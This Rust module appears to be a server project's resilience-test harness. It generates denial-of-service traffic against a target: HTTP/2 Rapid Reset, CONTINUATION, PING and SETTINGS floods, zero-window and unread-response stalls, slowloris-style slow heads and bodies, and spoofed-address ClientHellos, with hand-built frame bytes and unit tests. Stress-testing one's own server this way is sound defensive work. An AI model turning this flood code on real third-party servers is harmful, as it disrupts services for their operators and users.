//! Attackers with connections of their own: they hold them, send little or much on them, and come
//! back when they are ended.

use std::future::pending;
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use headstart_net::TlsStream;
use headstart_openers::NAME;
use headstart_tls::{ClientConfig, ClientContext, Trust};
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::task::JoinSet;

use super::flood::address;
use super::tcp::{self, Hello};
use super::work::{Place, Running, ended};

/// Shortest interval at which due messages are sent, and most of them at a time, when the attacker
/// itself was late.
const TICK: Duration = Duration::from_millis(10);
const BURST: u64 = 1_000;

/// Time after which an attacker whose connection was ended comes back.
const RETURN: Duration = Duration::from_millis(100);

/// Interval at which they look whether it is over, and others whether it has begun.
const LOOK: Duration = Duration::from_millis(5);

/// Bytes read at a time, and thrown away.
const PIECE: usize = 16 * 1024;

/// An attack, as a file says it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Siege {
    pub(super) kind: Kind,
    /// Connections at a time.
    #[serde(default)]
    pub(super) connections: u16,
    /// Requests on each at once, where it makes some.
    #[serde(default)]
    streams: u16,
    /// Messages of all of them in a second: bytes of a slow request, streams, frames, datagrams.
    #[serde(default)]
    pub(super) rate: u32,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(super) enum Kind {
    /// Ask for long answers by HTTP/2, with a window of zero for each, and send PING.
    ZeroWindows,
    /// Ask for long answers by HTTP/2, with the largest windows there are, and read nothing.
    NothingRead,
    /// Send the head of a request byte by byte.
    SlowHeads,
    /// Send the body of a request byte by byte.
    SlowBodies,
    /// Ask for something by HTTP/2, and reset the stream at once.
    RapidReset,
    /// Send a head of HTTP/2 that does not end, in one CONTINUATION after the other.
    Continuation,
    /// Send PING, each of which is answered.
    Ping,
    /// Send SETTINGS, each of which is answered.
    Settings,
    /// Connect, and send nothing.
    Silent,
    /// Ask once, over HTTP/1.1 or HTTP/2, take the answer, and stay: no attack, but clients that
    /// wait for their next request.
    Idle,
    IdleHttp2,
    /// Send a ClientHello, take the flight of an origin without cryptography, and stay.
    #[serde(skip)]
    PassedOn,
    /// Send ClientHellos by TurboTLS, each from another address.
    SpoofedHellos,
}

impl Kind {
    fn speaks_http2(self) -> bool {
        !matches!(self, Self::SlowHeads | Self::SlowBodies | Self::Idle)
    }

    /// Returns true if each connection has an address of its own, so that limits of one address do
    /// not spread the attack out in time.
    fn is_flood(self) -> bool {
        matches!(self, Self::RapidReset | Self::Continuation | Self::Ping | Self::Settings)
    }
}

pub(super) struct Attackers {
    shared: Arc<Shared>,
    thread: Running<()>,
}

/// All that an attacker needs.
struct Common {
    siege: Siege,
    target: SocketAddr,
    context: ClientContext,
    hello: Hello,
    shared: Arc<Shared>,
}

#[derive(Debug, Default)]
struct Shared {
    over: AtomicBool,
    held: AtomicU64,
    ended: AtomicU64,
    sent: AtomicU64,
}

/// Progress of the attackers.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize)]
pub(super) struct Done {
    /// Connections that they hold now.
    pub(super) held: u64,
    /// Connections that were ended on them.
    pub(super) ended: u64,
    pub(super) sent: u64,
}

impl Siege {
    /// Clients that wait, each with a connection.
    pub(super) const fn waiting(kind: Kind, connections: u16) -> Self {
        Self { kind, connections, streams: 0, rate: 0 }
    }

    /// Returns the time in which a server has taken the beginning, with all handshakes and requests
    /// at once; none where that is the attack.
    pub(super) const fn begins(&self) -> Duration {
        match self {
            Self { connections: 0, .. } => Duration::ZERO,
            Self { streams: 0, .. } => Duration::from_millis(200),
            _ => Duration::from_secs(2),
        }
    }
}

impl Done {
    /// Returns how many connections they have had.
    pub(super) const fn had(self) -> u64 {
        self.held + self.ended
    }
}

impl Attackers {
    /// Starts them on the server at `target`.
    pub(super) fn start(place: Place<'_>, siege: Siege, target: SocketAddr) -> io::Result<Self> {
        let mut config = ClientConfig::new(Trust::Anyone);
        config.groups = Some("X25519".to_owned());
        config.alpn = vec![if siege.kind.speaks_http2() { "h2" } else { "http/1.1" }.into()];
        let context = ClientContext::new(&config).map_err(io::Error::other)?;
        let shared = Arc::<Shared>::default();
        let common = Common { siege, target, context, hello: Hello::new()?, shared };
        let (shared, common) = (Arc::clone(&common.shared), Arc::new(common));
        let thread = place.spawn(async move {
            let mut attackers = JoinSet::new();
            for number in 0..siege.connections {
                let from = address(if siege.kind.is_flood() { number.into() } else { 0 });
                let common = Arc::clone(&common);
                attackers.spawn(async move {
                    loop {
                        // Servers end connections in any way they like.
                        let _ = attack(&common, from).await;
                        tokio::time::sleep(RETURN).await;
                    }
                });
            }
            while !common.shared.over.load(Ordering::Relaxed) {
                tokio::time::sleep(LOOK).await;
            }
            attackers.shutdown().await;
            Ok(())
        })?;
        Ok(Self { shared, thread })
    }

    /// Waits until they have had so many connections, or the time is over. Returns what they have.
    pub(super) fn begun(&self, connections: u16, within: Duration) -> Done {
        let until = Instant::now() + within;
        while self.done().had() < connections.into() && Instant::now() < until {
            thread::sleep(LOOK);
        }
        self.done()
    }

    /// Waits until they hold so many connections, or the time is over; returns how many they hold.
    pub(super) fn holding(&self, connections: u16, within: Duration) -> u64 {
        let until = Instant::now() + within;
        while self.done().held < connections.into() && Instant::now() < until {
            thread::sleep(LOOK);
        }
        self.done().held
    }

    pub(super) fn done(&self) -> Done {
        let Shared { held, ended, sent, .. } = &*self.shared;
        let [held, ended, sent] = [held, ended, sent].map(|count| count.load(Ordering::Relaxed));
        Done { held, ended, sent }
    }

    /// Closes all connections.
    pub(super) fn stop(self) -> io::Result<()> {
        self.shared.over.store(true, Ordering::Relaxed);
        ended(self.thread)
    }
}

/// A connection that is held, until this is dropped.
struct Held<'s>(&'s Shared);

impl<'s> Held<'s> {
    fn new(shared: &'s Shared) -> Self {
        shared.held.fetch_add(1, Ordering::Relaxed);
        Self(shared)
    }
}

impl Drop for Held<'_> {
    fn drop(&mut self) {
        self.0.held.fetch_sub(1, Ordering::Relaxed);
        self.0.ended.fetch_add(1, Ordering::Relaxed);
    }
}

/// Holds one connection until the server ends it.
async fn attack(common: &Common, from: IpAddr) -> io::Result<()> {
    let Common { siege, target, context, hello, shared } = common;
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(from, 0))?;
    let mut tcp = socket.connect(*target).await?;
    if siege.kind == Kind::Silent {
        let _held = Held::new(shared);
        return discard(&mut tcp).await;
    }
    tcp.set_nodelay(true)?;
    if siege.kind == Kind::PassedOn {
        tcp::take_flight(&mut tcp, &mut hello.clone()).await?;
        let _held = Held::new(shared);
        return discard(&mut tcp).await;
    }
    let conn = context.connect(NAME, None, false).map_err(io::Error::other)?;
    let mut stream = TlsStream::new(conn, tcp);
    let mut script = Script::new(siege);
    stream.write_all(&script.opening()).await?;
    stream.flush().await?;
    let _held = Held::new(shared);
    let (mut reader, mut writer) = tokio::io::split(stream);
    tokio::select! {
        ended = discard(&mut reader), if siege.kind != Kind::NothingRead => ended,
        ended = send(&mut writer, siege, &mut script, shared) => ended,
    }
}

/// Reads to the end.
async fn discard(reader: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    let mut buffer = vec![0; PIECE];
    while reader.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Sends a connection's share of the messages, as they are due.
async fn send(
    writer: &mut (impl AsyncWrite + Unpin),
    siege: &Siege,
    script: &mut Script,
    shared: &Shared,
) -> io::Result<()> {
    if siege.rate == 0 {
        pending::<()>().await;
    }
    let each = Duration::from_secs(1) * siege.connections.into() / siege.rate;
    let mut ticks = tokio::time::interval(each.max(TICK));
    let (begun, mut sent, mut bytes) = (Instant::now(), 0, Vec::new());
    loop {
        ticks.tick().await;
        let due = begun.elapsed().as_nanos() / each.as_nanos().max(1);
        let count = u64::try_from(due).unwrap_or(u64::MAX).saturating_sub(sent).min(BURST);
        bytes.clear();
        (0..count).for_each(|_| script.next(&mut bytes));
        writer.write_all(&bytes).await?;
        writer.flush().await?;
        sent += count;
        shared.sent.fetch_add(count, Ordering::Relaxed);
    }
}

/// The bytes of one connection.
struct Script {
    kind: Kind,
    streams: u16,
    /// The last stream that was begun.
    stream: u32,
}

/// Types and flags of frames, and a parameter of SETTINGS (RFC 9113 sections 6 and 6.5.2).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// The largest window, and what widens one of 65,535 bytes to it (section 6.9).
const WINDOW_MAX: u32 = (1 << 31) - 1;
const WIDEN: u32 = WINDOW_MAX - 65_535;

/// A line of a head, in HPACK: "x: y", not to be indexed (RFC 7541 section 6.2.2).
const LINE: &[u8] = b"\0\x01x\x01y";

impl Script {
    const fn new(siege: &Siege) -> Self {
        // Streams of clients have odd numbers.
        Self { kind: siege.kind, streams: siege.streams, stream: u32::MAX }
    }

    /// Returns the bytes that come first.
    fn opening(&mut self) -> Vec<u8> {
        let (window, wider) = match self.kind {
            Kind::SlowHeads => {
                return format!("GET / HTTP/1.1\r\nHost: {NAME}\r\nX: ").into_bytes();
            }
            Kind::Idle => return format!("GET / HTTP/1.1\r\nHost: {NAME}\r\n\r\n").into_bytes(),
            Kind::SlowBodies => {
                let length = u32::MAX;
                let head = "POST / HTTP/1.1\r\nHost: ";
                return format!("{head}{NAME}\r\nContent-Length: {length}\r\n\r\n").into_bytes();
            }
            Kind::ZeroWindows => (0, None),
            Kind::NothingRead => (WINDOW_MAX, Some(WIDEN)),
            _ => (65_535, None),
        };
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        let set = [&INITIAL_WINDOW_SIZE[..], &u32::to_be_bytes(window)].concat();
        frame(&mut bytes, SETTINGS, 0, 0, &set);
        if let Some(wider) = wider {
            frame(&mut bytes, WINDOW_UPDATE, 0, 0, &wider.to_be_bytes());
        }
        for _ in 0..self.streams {
            self.ask(&mut bytes, "/long", END_HEADERS);
        }
        match self.kind {
            Kind::Continuation => self.ask(&mut bytes, "/", 0),
            Kind::IdleHttp2 => self.ask(&mut bytes, "/", END_HEADERS),
            _ => {}
        }
        bytes
    }

    /// Adds the next message.
    fn next(&mut self, bytes: &mut Vec<u8>) {
        match self.kind {
            Kind::SlowHeads | Kind::SlowBodies => bytes.push(b'a'),
            Kind::RapidReset => {
                self.ask(bytes, "/", END_HEADERS);
                frame(bytes, RST_STREAM, 0, self.stream, &CANCEL);
            }
            Kind::Continuation => frame(bytes, CONTINUATION, 0, self.stream, LINE),
            Kind::Settings => {
                let set = [&INITIAL_WINDOW_SIZE[..], &u32::to_be_bytes(65_535)].concat();
                frame(bytes, SETTINGS, 0, 0, &set);
            }
            _ => frame(bytes, PING, 0, 0, b"headstar"),
        }
    }

    /// Begins the next stream.
    fn ask(&mut self, bytes: &mut Vec<u8>, path: &str, flags: u8) {
        self.stream = self.stream.wrapping_add(2);
        // By their places in the static table (RFC 7541 appendix A): GET, https, and with values of
        // their own :path and :authority.
        let mut block = vec![0x82, 0x87];
        for (name, value) in [(4, path), (1, NAME)] {
            block.extend([name, u8::try_from(value.len()).unwrap_or_default()]);
            block.extend(value.as_bytes());
        }
        frame(bytes, HEADERS, END_STREAM | flags, self.stream, &block);
    }
}

/// Adds a frame (RFC 9113 section 4.1).
fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    bytes.extend(length.get(1..).unwrap_or_default());
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn script(kind: &str) -> Script {
        let text = format!("kind = \"{kind}\"\nconnections = 2\nstreams = 3\nrate = 10");
        Script::new(&toml::from_str(&text).unwrap())
    }

    /// Returns type, stream and length of each frame.
    fn frames(mut bytes: &[u8]) -> Vec<(u8, u32, usize)> {
        let mut found = Vec::new();
        while let [a, b, c, kind, _, rest @ ..] = bytes {
            let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
            let (stream, rest) = rest.split_first_chunk().unwrap();
            found.push((*kind, u32::from_be_bytes(*stream), length));
            bytes = &rest[length..];
        }
        assert!(bytes.is_empty());
        found
    }

    #[test]
    fn each_attack_says_what_it_is_about() {
        let [mut zero, mut unread] = ["zero-windows", "nothing-read"].map(script);
        let opening = zero.opening();
        let requests = [1, 3, 5].map(|stream| (HEADERS, stream, 11 + NAME.len()));
        assert_eq!(frames(&opening[24..]), [&[(SETTINGS, 0, 6)][..], &requests].concat());
        assert_eq!(&opening[24 + 9..24 + 15], [0, 4, 0, 0, 0, 0]);
        let first = frames(&unread.opening()[24..])[..2].to_vec();
        assert_eq!(first, [(SETTINGS, 0, 6), (WINDOW_UPDATE, 0, 4)]);
        for (kind, sent) in [
            ("rapid-reset", &[(HEADERS, 7, 7 + NAME.len()), (RST_STREAM, 7, 4)][..]),
            ("continuation", &[(CONTINUATION, 7, LINE.len())]),
            ("settings", &[(SETTINGS, 0, 6)]),
            ("ping", &[(PING, 0, 8)]),
        ] {
            let (mut script, mut bytes) = (script(kind), Vec::new());
            script.opening();
            script.next(&mut bytes);
            assert_eq!(frames(&bytes), sent, "{kind}");
        }
        for kind in ["slow-heads", "slow-bodies"] {
            let (mut script, mut bytes) = (script(kind), Vec::new());
            let head = String::from_utf8(script.opening()).unwrap();
            assert_eq!(head.ends_with("\r\n\r\n"), kind == "slow-bodies", "{head}");
            script.next(&mut bytes);
            assert_eq!(bytes, b"a");
        }
    }

    #[test]
    fn attacks_are_read_from_files_and_mistakes_are_told() {
        let siege: Siege = toml::from_str("kind = \"silent\"\nconnections = 4096").unwrap();
        assert_eq!((siege.kind, siege.connections, siege.rate), (Kind::Silent, 4096, 0));
        for wrong in ["kind = \"loud\"", "kind = \"silent\"\nconnections = 70000", "rate = 1"] {
            assert!(toml::from_str::<Siege>(wrong).is_err(), "{wrong}");
        }
    }
}
